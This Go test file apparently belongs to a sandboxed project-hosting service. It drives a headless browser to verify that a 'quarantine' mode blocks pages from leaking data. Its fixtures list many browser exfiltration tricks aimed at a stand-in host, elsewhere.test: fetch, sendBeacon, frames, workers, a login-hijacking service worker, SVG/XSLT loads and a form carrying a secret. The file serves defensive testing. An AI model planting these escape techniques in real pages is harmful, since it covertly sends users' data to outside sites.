package play

import (
	"context"
	"io"
	"maps"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	cdp "github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"

	"sandlot"
	"sandlot/internal/testkit/testenv"
)

// A stage is a world behind a real listener, with what was sent for pages.
type stage struct {
	*world
	addr string

	pages sync.Mutex
	sent  []string // Content-Encoding of each page

	reports chan string // bodies of reports of errors
	calls   calls       // of players
}

// newStage serves a world on every host and on the path form, as main does.
func newStage(t *testing.T, alone bool, more ...func(*Config)) *stage {
	t.Helper()
	s := &stage{world: newWorld(t), reports: make(chan string, 100)}
	s.heard = make(chan string, 100)
	var h *Handler
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.HasSuffix(r.URL.Path, "/.sandlot/errors") {
			body, _ := io.ReadAll(r.Body)
			s.reports <- r.Header.Get("Origin") + " " + string(body)
		} else if s.calls.lost(r) {
			panic(http.ErrAbortHandler)
		} else if r.URL.Path == "/website" {
			_, _ = io.WriteString(w, "<!doctype html><title>Website</title><body>")
		} else if label, ok := h.Label(r.Host); ok {
			h.ServeOrigin(w, r, label)
		} else {
			h.ServePath(w, r)
		}
		if strings.HasPrefix(w.Header().Get("Content-Type"), "text/html") {
			s.pages.Lock()
			s.sent = append(s.sent, w.Header().Get("Content-Encoding"))
			s.pages.Unlock()
		}
	}))
	t.Cleanup(srv.Close)
	s.addr = srv.Listener.Addr().String()
	content := ""
	if !alone {
		content = "localhost:" + s.addr[strings.LastIndexByte(s.addr, ':')+1:]
	}
	h = newHandler(s.world, content, more...)
	return s
}

// url is the address of a project on the stage.
func (s *stage) url(id sandlot.ProjectID) string {
	return "http://" + string(id) + ".localhost:" + s.addr[strings.LastIndexByte(s.addr, ':')+1:] + "/"
}

// encoding returns how the nth page was sent.
func (s *stage) encoding(n int) string {
	s.pages.Lock()
	defer s.pages.Unlock()
	return s.sent[n]
}

// next returns the next heartbeat that was heard.
func (s *stage) next(t *testing.T) string {
	t.Helper()
	select {
	case b := <-s.heard:
		return b
	case <-time.After(30 * time.Second):
		t.Fatal("no heartbeat was heard")
		return ""
	}
}

// run runs one action and returns its value.
func run[T any](t *testing.T, ctx context.Context, action chromedp.Action[T]) T {
	t.Helper()
	v, err := chromedp.Run(ctx, action)
	if err != nil {
		t.Fatal(err)
	}
	return v
}

func TestInABrowser(t *testing.T) {
	t.Parallel()
	ctx := testenv.Engine(t)
	s := newStage(t, false)
	s.put(gameID, s.file("index.html", page("game")))
	s.put("frame-abc234", s.file("index.html", `<iframe src="`+s.url(gameID)+`"></iframe>`))
	scripts := chromedp.Evaluate[int](`document.querySelectorAll('script').length`)

	run(t, ctx, chromedp.Navigate(s.url(gameID)))
	touch := s.next(t)
	if !regexp.MustCompile(`^touch chess-abc234 [0-9a-f]{32}$`).MatchString(touch) || run(t, ctx, scripts) != 1 || s.plays() != 1 {
		t.Errorf("%q, %d scripts, %d plays", touch, run(t, ctx, scripts), s.plays())
	}
	if got := s.encoding(0); got != "gzip" {
		t.Errorf("the page came as %q, so a continued gzip was not tried", got)
	}

	leave := "leave" + strings.TrimPrefix(touch, "touch")
	run(t, ctx, chromedp.Reload())
	heard := []string{s.next(t), s.next(t)}
	if slices.Sort(heard); !slices.Equal(heard, []string{leave, touch}) || run(t, ctx, scripts) != 1 {
		t.Errorf("a reload: %q, want %q and %q", heard, leave, touch)
	}
	run(t, ctx, chromedp.Navigate("about:blank"))
	if got := s.next(t); got != leave {
		t.Errorf("on leaving: %q, want %q", got, leave)
	}

	// The project in the frame sends nothing: the page around it does.
	run(t, ctx, chromedp.Navigate(s.url("frame-abc234")))
	if got := s.next(t); !strings.HasPrefix(got, "touch frame-abc234 ") {
		t.Errorf("with a frame: %q", got)
	}
	run(t, ctx, chromedp.Navigate("about:blank"))
	if got := s.next(t); !strings.HasPrefix(got, "leave frame-abc234 ") {
		t.Errorf("with a frame: %q", got)
	}
}

// TestRegressionM46EachBrowserIsAPlayer, also where several have one address: each profile makes a number of its own, and keeps it.
func TestRegressionM46EachBrowserIsAPlayer(t *testing.T) {
	t.Parallel()
	browser := testenv.Engine(t)
	run(t, browser, chromedp.Navigate("about:blank"))
	s := newStage(t, false)
	s.put(gameID, s.file("index.html", page("game")))
	var players []string
	for range 3 {
		ctx, closeTab := chromedp.NewContext(browser, chromedp.WithNewBrowserContext())
		defer closeTab()
		run(t, ctx, chromedp.Navigate(s.url(gameID)))
		touch := s.next(t)
		run(t, ctx, chromedp.Reload())
		if again := []string{s.next(t), s.next(t)}; !slices.Contains(again, touch) {
			t.Errorf("after a reload %q is %q", touch, again)
		}
		players = append(players, touch)
	}
	slices.Sort(players)
	if n := len(slices.Compact(players)); n != 3 {
		t.Errorf("three browsers are %d players: %q", n, players)
	}
}

func TestThePathFormInABrowser(t *testing.T) {
	t.Parallel()
	ctx := testenv.Engine(t)
	s := newStage(t, true)
	s.put(gameID, s.file("index.html", page("game")+`<script type="module" src="main.js"></script>`), s.file("main.js", `document.title = 'module';`))

	run(t, ctx, chromedp.Navigate("http://"+s.addr+"/~/"+string(gameID)+"/"))
	run(t, ctx, chromedp.Poll[bool](`document.title === 'module'`))
	if got := run(t, ctx, chromedp.Evaluate[string](`self.origin`)); got != "null" {
		t.Errorf("origin %q: not in a sandbox", got)
	}
	if run(t, ctx, chromedp.Evaluate[bool](`(() => { try { localStorage; return true } catch { return false } })()`)) {
		t.Error("the storage of the site is within reach")
	}
	if got := s.next(t); !strings.HasPrefix(got, "touch chess-abc234 ") {
		t.Errorf("%q", got)
	}
	run(t, ctx, chromedp.Navigate("about:blank"))
	if got := s.next(t); !strings.HasPrefix(got, "leave chess-abc234 ") {
		t.Errorf("%q", got)
	}
}

// escapes are ways by which the script of a page reaches another site, each under the name that it says there.
var escapes = map[string]string{
	"fetch":         `fetch(to('fetch'), {mode: 'no-cors'})`,
	"beacon":        `navigator.sendBeacon(to('beacon'), 'x')`,
	"picture":       `new Image().src = to('picture')`,
	"blob-frame":    `frame(URL.createObjectURL(new Blob([leak('blob-frame')], {type: 'text/html'})))`,
	"data-frame":    `frame('data:text/html,' + encodeURIComponent(leak('data-frame')))`,
	"srcdoc-frame":  `add('iframe', {srcdoc: leak('srcdoc-frame')})`,
	"script-frame":  `frame('javascript:' + JSON.stringify(leak('script-frame')))`,
	"own-frame":     `frame('/%zz').onload = e => e.target.contentWindow.fetch(to('own-frame'), {mode: 'no-cors'})`,
	"missing-frame": `frame('/none').onload = e => e.target.contentWindow.fetch(to('missing-frame'), {mode: 'no-cors'})`,
	"popup":         `(w => { w.document.open(); w.document.write(leak('popup')); w.document.close() })(open('about:blank'))`,
	"worker":        `new Worker(URL.createObjectURL(new Blob([fetches('worker')])))`,
	"data-worker":   `new Worker('data:text/javascript,' + encodeURIComponent(fetches('data-worker')))`,
	"file-worker":   `new Worker('/worker.js', {name: to('file-worker')})`,
	"shared-worker": `new SharedWorker('/worker.js', to('shared-worker'))`,
	"prefetch":      `add('link', {rel: 'prefetch', href: to('prefetch')})`,
	"form":          `(f => f.submit())(add('form', {action: to('form'), method: 'post', target: frame('about:blank').name = 'f'}))`,
	"ping":          `add('a', {href: '#', ping: to('ping')}).click()`,
}

const escapesHead = `<!doctype html><title>Game</title><body><script>
const to = way => 'http://' + way + '.elsewhere.test:PORT/' + way
const add = (name, all) => document.body.appendChild(Object.assign(document.createElement(name), all))
const frame = src => add('iframe', {src})
const fetches = way => 'fetch("' + to(way) + '", {mode: "no-cors"})'
const leak = way => '<!doctype html><script>' + fetches(way) + '<' + '/script>'
`

// elsewhere is another site. It knows by which ways a page reached it.
type elsewhere struct {
	port string

	mu   sync.Mutex
	came map[string]bool
}

func newElsewhere(t *testing.T) *elsewhere {
	e := &elsewhere{came: map[string]bool{}}
	srv := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		e.mu.Lock()
		defer e.mu.Unlock()
		e.came[r.URL.Path[1:]] = true
	}))
	t.Cleanup(srv.Close)
	e.port = strconv.Itoa(srv.Listener.Addr().(*net.TCPAddr).Port)
	return e
}

// reached lists the ways by which a page reached the site.
func (e *elsewhere) reached() []string {
	e.mu.Lock()
	defer e.mu.Unlock()
	return slices.Sorted(maps.Keys(e.came))
}

// escapesHost serves a project with every escape: those of its first page, and those that need a page of their own.
func escapesHost(t *testing.T, e *elsewhere, quarantine bool) *stage {
	t.Helper()
	s := newStage(t, false, func(c *Config) { c.Quarantine = quarantine })
	to := func(way string) string { return "http://" + way + ".elsewhere.test:" + e.port + "/" + way }
	page := strings.ReplaceAll(escapesHead, "PORT", e.port)
	for _, way := range slices.Sorted(maps.Keys(escapes)) {
		page += "try { " + escapes[way] + " } catch {}\n"
	}
	s.put(gameID, s.file("index.html", page+"</script>"),
		s.file("worker.js", `fetch(self.name, {mode: 'no-cors'})`),
		s.file("sw.js", `onactivate = e => e.waitUntil(clients.claim()); oninstall = () => skipWaiting()
onfetch = e => { if (e.request.url.endsWith('/login.html')) e.respondWith(new Response('<script>fetch("`+to("service-worker")+`", {mode: "no-cors"})</script>', {headers: {'Content-Type': 'text/html'}})) }`),
		// A browser may take the script of a worker from its cache, where an ordinary fetch has put it.
		s.file("register.html", `<!doctype html><title>-</title><script>
const ready = () => document.title = 'ready'
fetch('/sw.js').then(() => navigator.serviceWorker.register('/sw.js', {updateViaCache: 'all'})).then(r => {
  const w = r.installing || r.waiting || r.active
  if (w.state == 'activated' || w.state == 'redundant') ready()
  w.onstatechange = () => { if (w.state == 'activated' || w.state == 'redundant') ready() }
}, ready)</script>`),
		s.file("login.html", `<!doctype html><title>Login</title>`),
		s.file("a.svg", `<svg xmlns="http://www.w3.org/2000/svg"><image href="`+to("svg")+`" width="9" height="9"/></svg>`),
		s.file("a.xml", `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="a.xsl"?><a/>`),
		s.file("a.xsl", `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><body><img src="`+to("xslt")+`"/></body></html></xsl:template></xsl:stylesheet>`),
		s.file("leave.html", `<!doctype html><script>location = '`+to("tab")+`'</script>`))
	return s
}

// TestRegressionM22NothingLeavesQuarantine: what reaches another site without quarantine does not with it, by the responses that a page makes
// itself, the documents that it opens, and the tab's own navigation.
func TestRegressionM22NothingLeavesQuarantine(t *testing.T) {
	t.Parallel()
	free, held := newElsewhere(t), newElsewhere(t)
	ctx := testenv.Engine(t, chromedp.Flag("host-resolver-rules", "MAP *.elsewhere.test 127.0.0.1"), chromedp.Flag("disable-popup-blocking", true))
	pages := []struct{ file, way string }{{"login.html", "service-worker"}, {"a.svg", "svg"}, {"a.xml", "xslt"}, {"leave.html", "tab"}}
	for _, c := range []struct {
		to         *elsewhere
		quarantine bool
	}{{free, false}, {held, true}} {
		home := escapesHost(t, c.to, c.quarantine).url(gameID)
		tried := func(way string, n int) {
			if c.quarantine {
				// The document may give way to another one meanwhile, such as the browser's own after a navigation that it blocked.
				testenv.Eventually(t, 30*time.Second, way+" had its time", func() bool {
					over, err := chromedp.Run(ctx, chromedp.Evaluate[bool](`performance.now() > 300`))
					return err == nil && over
				})
				return
			}
			testenv.Eventually(t, 30*time.Second, way+" is open without quarantine", func() bool { return len(c.to.reached()) >= n })
		}
		run(t, ctx, chromedp.Navigate(home))
		tried("every way of the page", len(escapes))
		run(t, ctx, chromedp.Navigate(home+"register.html"))
		run(t, ctx, chromedp.Poll[bool](`document.title === 'ready'`))
		for n, p := range pages {
			run(t, ctx, chromedp.Navigate(home+p.file))
			tried(p.way, len(escapes)+n+1)
		}
	}
	if got := held.reached(); len(got) > 0 {
		t.Errorf("out of quarantine by %v", got)
	}
}

// TestRegressionM24NoHostIsLookedUpInQuarantine: a page that opens connections ahead puts text into the names of their hosts. The browser's log of its
// network names each host that it looks up.
func TestRegressionM24NoHostIsLookedUpInQuarantine(t *testing.T) {
	t.Parallel()
	netLog := filepath.Join(t.TempDir(), "net.json")
	ctx := testenv.Browser(t, chromedp.Flag("log-net-log", netLog))
	logged := func(text string) bool {
		log, err := os.ReadFile(netLog)
		return err == nil && strings.Contains(string(log), text)
	}
	for _, quarantine := range []bool{false, true} {
		name := strconv.FormatBool(quarantine)
		s := newStage(t, false, func(c *Config) { c.Quarantine = quarantine })
		s.put(gameID, s.file("index.html", `<!doctype html><title>Game</title><link rel="preconnect" href="http://preconnect-`+name+`.elsewhere.test/">
<link rel="dns-prefetch" href="http://name-`+name+`.elsewhere.test/"><script>onload = () => setInterval(() => fetch('/later-`+name+`'), 200)</script>`))
		run(t, ctx, chromedp.Navigate(s.url(gameID)))
		testenv.Eventually(t, 30*time.Second, "the log has what the page asked for later", func() bool { return logged("later-" + name) })
		if !quarantine {
			testenv.Eventually(t, 30*time.Second, "both hosts are looked up without quarantine", func() bool { return logged("preconnect-false.") && logged("name-false.") })
		}
	}
	if logged("preconnect-true.") || logged("name-true.") {
		t.Error("a host is looked up in quarantine")
	}
}

func TestRegression15QuarantineBreaksNoDialogAndNoFormEvent(t *testing.T) {
	t.Parallel()
	ctx := testenv.Engine(t)
	s := newStage(t, false, func(c *Config) { c.Quarantine = true })
	s.put("thief-abc234", s.file("index.html", `<!doctype html><p>got it`))
	s.put(gameID, s.file("index.html", `<!doctype html><title>Game</title>
<form id=f action="`+s.url("thief-abc234")+`"><input name=secret value=1></form>
<script>
document.addEventListener("securitypolicyviolation", e => { window.blocked = e.effectiveDirective })
f.onsubmit = () => { window.fired = true }
</script>`))
	answers := make(chan struct{}, 10)
	done, stop := context.WithCancel(ctx)
	defer stop()
	if err := chromedp.Listen(ctx, func(ev any) {
		if _, ok := ev.(*cdp.EventJavascriptDialogOpening); ok {
			answers <- struct{}{}
		}
	}); err != nil {
		t.Fatal(err)
	}
	go func() {
		for {
			select {
			case <-answers:
				_, _ = chromedp.Call(ctx, cdp.HandleJavaScriptDialog, cdp.HandleJavaScriptDialogParams{Accept: true})
			case <-done.Done():
				return
			}
		}
	}()
	run(t, ctx, chromedp.Navigate(s.url(gameID)))
	if !run(t, ctx, chromedp.Evaluate[bool](`confirm("again?")`)) {
		t.Error("confirm is false although it was accepted")
	}
	run(t, ctx, chromedp.Evaluate[bool](`f.requestSubmit(), true`))
	for !run(t, ctx, chromedp.Evaluate[bool](`!!window.blocked || location.host != "`+s.url(gameID)[len("http://"):len(s.url(gameID))-1]+`"`)) {
	}
	if got := run(t, ctx, chromedp.Evaluate[string](`[window.fired, window.blocked, location.host == "`+s.url(gameID)[len("http://"):len(s.url(gameID))-1]+`"].join()`)); got != "true,form-action,true" {
		t.Errorf("fired, blocked and at home: %s", got)
	}
}
